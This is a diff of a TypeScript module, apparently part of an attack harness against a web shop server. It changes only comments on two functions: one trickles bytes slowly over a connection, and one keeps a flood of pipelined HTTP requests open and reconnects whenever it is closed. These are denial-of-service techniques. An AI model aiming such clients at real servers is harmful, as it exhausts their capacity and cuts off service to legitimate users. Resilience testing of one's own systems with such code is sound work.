@@ -1,7 +1,7 @@
 import { connect, type Socket } from 'node:net'
 import type { Target } from './hostile-attack.ts'
 
-/** The pause before a closed connection is reopened. Without it, a rejected client would only keep itself busy. */
+/** The pause before a closed connection is opened again. Without it, a client that the shop rejects would only be busy with itself. */
 const AGAIN_AFTER_MS = 100
 
 type Where = Pick<Target, 'url' | 'address'>
@@ -22,7 +22,7 @@ export function trickle(where: Where, beginning: string, byte: string): void {
   })
 }
 
-/** Keeps this many requests open on one connection while the shop answers. Reconnects when the shop stops answering. */
+/** Keeps this many requests unanswered on one connection: sends a new request for each answer. Reconnects if the connection is closed. */
 export function askForEver(
   where: Where,
   requestOf: (n: number) => string,
@@ -32,7 +32,7 @@ export function askForEver(
   const socket = socketTo(where)
   const ask = (count: number) => socket.write(Array.from({ length: count }, () => requestOf(n++)).join(''))
   socket.once('connect', () => ask(atOnce))
-  // Each answer has one status line. If a status line is split between two chunks, it is missed; this only slows the client down.
+  // Each answer has one status line. A status line that is split between two chunks is not counted; then the client only gets slower.
   socket.on('data', (chunk) => {
     const answers = chunk.toString('latin1').split('HTTP/1.1 ').length - 1
     if (answers > 0) ask(answers)
